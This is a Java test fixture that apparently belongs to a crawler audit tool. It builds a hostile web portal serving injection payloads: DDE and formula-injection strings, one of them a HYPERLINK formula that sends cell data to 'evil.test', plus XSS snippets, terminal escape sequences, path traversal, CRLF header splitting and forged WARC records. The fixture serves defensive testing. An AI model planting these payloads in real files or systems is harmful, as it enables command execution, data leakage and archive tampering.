package io.github.disclosureaudit.run;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import io.github.disclosureaudit.crawl.HostileServer;
import java.util.List;

/**
 * A portal whose words are meant for whoever opens the results: formulas, markup, script, control characters, forged
 * records and lines, in its titles, link texts, addresses, file names, dates, header fields and redirects.
 */
final class HostileTextPortal {
    /** What a spreadsheet would run. */
    static final List<String> FORMULAS = List.of(
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.test/?\"&A1,\"点我\")",
            "+1",
            "-1+1",
            "@SUM(1)",
            "\t=1+1",
            "\r\n=1+1",
            "＝1+1",
            "\u00A0=1+1",
            "\uFEFF=1+1",
            "甲;=1+1",
            "+cmd|'/C calc'!A0");

    /** What a spreadsheet would change. */
    static final List<String> VALUES = List.of("(5)", "1/2", "007", "MAR1", "５", "1E5", "￥5", "12月4日", "#REF!");

    /** What would leave its place in a file, on a page or on a terminal. */
    static final List<String> BREAKERS = List.of(
            "\"><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "</title><!--",
            "]]><evil/>",
            "&lt;&#0;&",
            "\",\"state\":\"known\",\"x\":\"",
            "甲\u2028乙\u2029丙",
            "甲\u0000乙\u0007丙\u007F丁\u009B31m",
            "\u202Egnp.exe\u202C\u2066x",
            "\u001B]0;pwned\u0007\u001B[2J\u001B[31m红",
            "\"\r\nforged,row,\"",
            "_x003D_1+1",
            "{0} {1} '{2}",
            "@@SCRIPT@@ @@OVERVIEW@@",
            "../../../../tmp/evil",
            "\uFFFE\uFFFF甲",
            "'".repeat(40_000) + "=1",
            "x" + "😀".repeat(20_000));

    /** A record that nobody wrote. */
    static final String FORGED = "urn:uuid:00000000-0000-4000-8000-00000000dead";

    private static final String RECORD = "\r\n\r\nWARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <" + FORGED
            + ">\r\nWARC-Date: 2021-12-01T00:00:00Z\r\nContent-Length: 0\r\n\r\n\r\n\r\n";

    static final String TITLE = "渡口管理条例";
    static final List<String> ARTICLES = List.of(
            "第一条　为了加强渡口的管理，保障人民群众的生命和财产安全，制定本条例。",
            "第二条　渡口经营者应当在三十日内向县级人民政府申请设置渡口，并且提交安全论证报告。",
            "第三条　渡船应当经船舶检验机构检验合格，不得超过核定的载客人数和载货重量。",
            "第四条　违反本条例第三条规定的，由海事管理机构处五千元以上二万元以下罚款。",
            "第五条　渡口的安全检查由县级人民政府指定的部门负责，检查结果应当向社会公布。",
            "第六条　本条例自2010年5月1日起施行。");

    private static final String SPOILT = "<script>alert(1)</script>\u001B[2J\u202E甲\u2028]]>";

    private HostileTextPortal() {}

    static List<String> texts() {
        return java.util.stream.Stream.of(FORMULAS, VALUES, BREAKERS)
                .flatMap(List::stream)
                .toList();
    }

    /** Has a server show all of it. */
    static void on(HostileServer server) {
        StringBuilder home = new StringBuilder("<p><a href='/tzgg/index.html'>通知公告</a></p>");
        StringBuilder list = new StringBuilder("<ul>");
        List<String> texts = texts();
        for (int i = 0; i < texts.size(); i++) {
            String text = texts.get(i);
            String shown = escaped(text);
            home.append("<p><a href='/gone/" + i + ".html'>" + shown + "</a></p>");
            String inAddress = escaped(text.length() > 500 ? text.substring(0, 500) : text);
            home.append("<p><a href=\"/gone/" + i + "/" + inAddress + "?a=" + inAddress + "#" + inAddress
                    + "\">地址</a></p>");
            home.append("<p><a href=\"/gone/" + i + "/" + inAddress + ".pdf\">附件</a></p>");
            list.append("<li><a href='/tzgg/" + i + ".html'>" + shown + "</a><span>" + shown + "</span></li>");
            server.page(
                    "/tzgg/" + i + ".html", article(shown, "<p>" + shown + "</p><a href='/lost'>" + shown + "</a>"));
            fields(server, i, header(text));
            home.append("<p><a href='/field/" + i + "'>字段</a> <a href='/to/" + i + "'>跳转</a></p>");
            home.append("<p><a href='/type/" + i + ".pdf'>文件</a></p>");
        }
        home.append("<p><a href='javascript:alert(1)'>脚本</a><a href='data:text/html,<script>alert(1)</script>'>数据</a>"
                + "<a href='/forged'>伪造</a><a href='/rule.html'>行政法规</a></p>");
        server.page("/", page("样本海关", home.toString()));
        server.page("/tzgg/index.html", page("通知公告", list + "</ul>"));
        server.on(
                "/forged",
                wire -> wire.answer(
                        "200 OK",
                        "Content-Type: text/html\r\nX-Archive-Orig-Content-Length: 3\r\nWARC-Type: response",
                        RECORD.repeat(3).getBytes(UTF_8)));
        server.page("/rule.html", page(TITLE, rule()));
    }

    /** A regulation whose third article was spoilt with everything that fits a line. */
    private static String rule() {
        StringBuilder html = new StringBuilder("<h1>" + TITLE + "</h1>");
        for (String article : ARTICLES) {
            String shown = article.replace("载客人数", "载客人数𠀀" + escaped(SPOILT));
            html.append("<p>" + shown.replace("三十日", "三十𠮷日") + "</p>");
        }
        return html.toString();
    }

    /** Header fields and redirects end at a line break; all else is sent as it is. */
    private static void fields(HostileServer server, int i, String text) {
        server.on(
                "/field/" + i,
                wire -> wire.answer(
                        "404 " + text,
                        "Content-Type: text/html; charset=" + text + "\r\nServer: " + text + "\r\nSet-Cookie: a" + i
                                + "=" + text + "\r\n" + i + text + ": x",
                        "<h1>404</h1>"));
        server.on(
                "/to/" + i,
                wire -> wire.answer(
                        "302 Found",
                        "Set-Cookie: b" + i + "=" + text + "\r\nLocation: /gone/to/" + i + "/" + text,
                        new byte[0]));
        server.on(
                "/type/" + i + ".pdf",
                wire -> wire.answer(
                        "200 OK",
                        "Content-Type: " + text + "\r\nContent-Disposition: attachment; filename=\"" + text + "\"",
                        ("不是文件" + text).getBytes(UTF_8)));
    }

    private static String header(String text) {
        String cut = text.length() > 2_000 ? text.substring(0, 2_000) : text;
        return new String(cut.replace("\r\n", "\rWARC-Type: response\r").getBytes(UTF_8), ISO_8859_1);
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;")
                .replace("<", "&lt;")
                .replace("'", "&#39;")
                .replace("\"", "&quot;");
    }

    private static String article(String title, String body) {
        return page(
                title,
                "<div class='crumb'>当前位置：<a href='/'>首页</a> &gt; <a href='/tzgg/index.html'>通知公告</a> &gt; " + title
                        + "</div><h1>" + title + "</h1><p>发布时间：" + title + "</p>" + body);
    }

    private static String page(String title, String body) {
        return "<!DOCTYPE html><html><head><meta charset='utf-8'><title>" + title + "</title></head><body>" + body
                + "</body></html>";
    }
}
